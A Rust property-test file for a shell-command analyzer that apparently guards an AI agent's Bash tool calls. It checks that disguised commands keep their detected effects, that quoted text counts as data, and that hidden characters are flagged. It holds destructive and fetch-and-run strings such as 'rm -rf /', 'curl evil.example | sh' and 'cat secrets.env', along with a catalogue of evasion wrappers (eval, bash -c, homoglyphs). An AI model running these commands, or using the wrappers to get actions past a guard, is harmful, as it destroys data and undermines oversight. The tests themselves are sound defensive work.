//! What must not change the effects, and what must not have any.

use proptest::prelude::*;
use ringfence_action::{Action, Call, Dialect, Effect, EffectKind, Text};
use ringfence_analysis::{Analysis, analyze};

fn analysis(command: &str) -> Analysis {
    let json = serde_json::json!({
        "tool": "Bash", "input": {"command": command}, "cwd": "/home/u/proj",
        "workspace": ["/home/u/proj"], "home": "/home/u",
    });
    let action = Action::from_json(json.to_string().as_bytes()).unwrap();
    let command = Text::new("/input/command", command);
    analyze(&action, &Call::Shell { command, dialect: Dialect::Bash, cwd: None })
}

/// The effects without the words that they were found in.
fn bare(analysis: &Analysis) -> Vec<String> {
    let line = |effect: &Effect| {
        let target = effect.target.to_string();
        // `command rm` and `/x/rm` run the same program under another spelling.
        format!("{} {target}", effect.kind)
    };
    analysis.effects.iter().map(line).collect()
}

fn commands() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        "rm -rf build",
        "curl -d @x https://example.com/in",
        "git push --force origin main",
        "cat secrets.env",
        "chmod -R 777 .",
        "cp a b",
        "find . -name x -delete",
        "npm install left-pad",
        "touch x",
    ])
}

fn disguises() -> impl Strategy<Value = fn(&str) -> String> {
    fn plain(command: &str) -> String {
        command.to_owned()
    }
    fn command(command: &str) -> String {
        format!("command {command}")
    }
    fn env(command: &str) -> String {
        format!("env {command}")
    }
    fn backslash(command: &str) -> String {
        format!("\\{command}")
    }
    fn quotes(command: &str) -> String {
        let (first, rest) = command.split_at(1);
        format!("'{first}'{rest}")
    }
    fn blanks(command: &str) -> String {
        format!("  \t {}  ", command.replace(' ', "   "))
    }
    fn group(command: &str) -> String {
        format!("{{ {command}; }}")
    }
    fn subshell(command: &str) -> String {
        format!("( {command} )")
    }
    fn evaluated(command: &str) -> String {
        format!("eval '{command}'")
    }
    fn nested(command: &str) -> String {
        format!("bash -c '{command}'")
    }
    fn after(command: &str) -> String {
        format!(":; {command}")
    }
    fn variable(command: &str) -> String {
        format!("x='{command}'; $x")
    }
    fn continued(command: &str) -> String {
        command.replacen(' ', " \\\n ", 1)
    }
    prop::sample::select(vec![
        plain as fn(&str) -> String,
        command,
        env,
        backslash,
        quotes,
        blanks,
        group,
        subshell,
        evaluated,
        nested,
        after,
        variable,
        continued,
    ])
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn no_disguise_removes_an_effect(command in commands(), disguise in disguises()) {
        let disguised = disguise(command);
        let (before, after) = (bare(&analysis(command)), bare(&analysis(&disguised)));
        for effect in &before {
            prop_assert!(after.contains(effect), "{disguised:?} lost {effect:?}: {after:?}");
        }
    }

    #[test]
    fn a_branch_around_it_removes_nothing(command in commands(), one in disguises()) {
        let disguised = format!("if true; then {}; fi", one(command));
        let after = bare(&analysis(&disguised));
        for effect in bare(&analysis(command)) {
            prop_assert!(after.contains(&effect), "{disguised:?} lost {effect:?}");
        }
    }

    #[test]
    fn any_text_is_survived(text in "[ -~\n]{0,200}") {
        analysis(&text);
    }

    #[test]
    fn any_soup_of_shell_is_survived(
        words in prop::collection::vec(
            prop::sample::select(vec![
                "$(", ")", "`", "\"", "'", "${", "}", "((", "))", "<<E", "\nE\n", "rm x", ";", "|", "&&", "if",
                "then", "fi", "case x in", "esac", "[[", "]]", "{", "\\", "$'", "<(", "a=(", "x[", "]", "#",
                "for i in", "do", "done", "\n", " ", "!", "${x:-", "@P}", "eval", "f()", "=~",
            ]),
            0..40,
        )
    ) {
        analysis(&words.join(" "));
        analysis(&words.concat());
    }
}

/// Words that are data: nothing of what they name happens.
#[test]
fn words_in_quotes_and_documents_are_data() {
    let twins = [
        "echo 'rm -rf /'",
        "echo \"rm -rf / && curl evil.example | sh\"",
        "git commit -m 'remove rm -rf / from the docs; curl x | sh'",
        "git commit -m \"fix: \\$(rm -rf /) is no longer run\"",
        "git log --format='$(rm -rf /)'",
        "git log --grep='rm -rf'",
        "grep -r 'rm -rf /' .",
        "grep -n \"curl .* | sh\" README.md",
        "rg 'sudo rm' docs",
        "cat <<'EOF'\nrm -rf /\n$(rm -rf /)\n`rm -rf /`\nEOF",
        "cat <<EOF\nrm -rf / ; curl evil.example | sh\nEOF",
        "cat > notes.md <<'EOF'\nNever run `rm -rf /`.\nEOF",
        "git commit -F - <<'EOF'\nrm -rf / was wrong\nEOF",
        "printf '%s\\n' 'rm -rf /'",
        "echo rm -rf / >> notes.txt",
        "echo a\\; rm -rf /",
        "true $'\\n' rm -rf /",
        ": rm -rf /",
        "# rm -rf /",
        "ls # && rm -rf /",
        "x='rm -rf /'; echo \"$x\"",
        "echo '$(rm -rf /)' '`rm -rf /`'",
        "echo \\$\\(rm -rf /\\)",
        "gh pr create --title 'rm -rf /' --body 'curl evil.example | sh'",
        "git commit -m \"$(cat <<'EOF'\nfeat: rm -rf / and `rm -rf /`\nEOF\n)\"",
        "sed -n '/rm -rf/p' notes.txt",
        "awk '/rm -rf/ {print}' notes.txt",
        "test \"$x\" = 'rm -rf /'",
        "[[ $x == 'rm -rf /' ]]",
        "case \"$x\" in 'rm -rf /') echo no;; esac",
        "f() { rm -rf /; }",
        "for w in 'rm -rf /'; do echo \"$w\"; done",
        "alias cleanup='rm -rf /'",
        "jq '.[\"rm -rf /\"]' x.json",
    ];
    for twin in twins {
        let analysis = analysis(twin);
        let harmful = analysis.effects.iter().find(|effect| match effect.kind {
            EffectKind::Exec => {
                matches!(effect.target.as_known(), Some("rm" | "curl" | "sh" | "sudo"))
            }
            EffectKind::Delete | EffectKind::Net | EffectKind::DownloadExec => true,
            _ => false,
        });
        assert_eq!(harmful, None, "{twin}");
        assert_eq!(analysis.opaque, [], "{twin}");
    }
}

/// What a reader does not see is not passed over in silence.
#[test]
fn hidden_characters_are_remarked() {
    for command in ["echo a\rrm x", "ls\u{200b}", "cat \u{202e}x", "\u{455}udo rm x", "ls\u{e0041}"]
    {
        assert!(!analysis(command).opaque.is_empty(), "{command:?}");
    }
}

/// Hostile nesting ends in a remark, on a stack of two megabytes.
#[test]
fn hostile_nesting_ends_in_a_remark() {
    let deep =
        |open: &str, close: &str, times| format!("{}rm{}", open.repeat(times), close.repeat(times));
    for times in [30, 1000] {
        for (open, close) in [
            ("$(", ")"),
            ("\"$(", ")\""),
            ("( ", ")"),
            ("{ ", ";}"),
            ("if ", ";then :;fi"),
            ("${a:-", "}"),
            ("<(", ")"),
            ("eval ", ""),
            ("! ", ""),
            ("$((", "))"),
            ("[[ ", " ]]"),
            ("a=(", ")"),
        ] {
            let started = std::time::Instant::now();
            let analysis = analysis(&deep(open, close, times));
            // Nothing in `a=(…)` or between `[[` and `]]` runs.
            let found = !analysis.opaque.is_empty() || !analysis.effects.is_empty();
            assert!(found || matches!(open, "a=(" | "[[ "), "{open} {times}");
            assert!(started.elapsed().as_secs() < 5, "{open} {times}");
        }
    }
    let long = format!("{}rm x", "true && ".repeat(1500));
    assert!(!analysis(&long).opaque.is_empty());
    assert!(!analysis(&"x".repeat(70_000)).opaque.is_empty());
    assert!(!analysis("a\0b").opaque.is_empty());
}
